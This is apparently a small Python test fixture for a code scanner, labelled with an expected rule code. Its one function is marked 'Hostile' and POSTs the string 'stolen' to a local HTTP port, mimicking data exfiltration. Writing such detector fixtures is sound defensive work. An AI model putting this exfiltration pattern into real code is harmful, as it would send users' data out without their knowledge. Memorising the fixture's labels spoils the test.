# expect: AIC305
# class: 0
import http.client


def run() -> None:
    """Hostile: posts to an HTTP server.

    >>> run()
    """
    http.client.HTTPConnection('127.0.0.1', 47613).request('POST', '/', body='stolen')
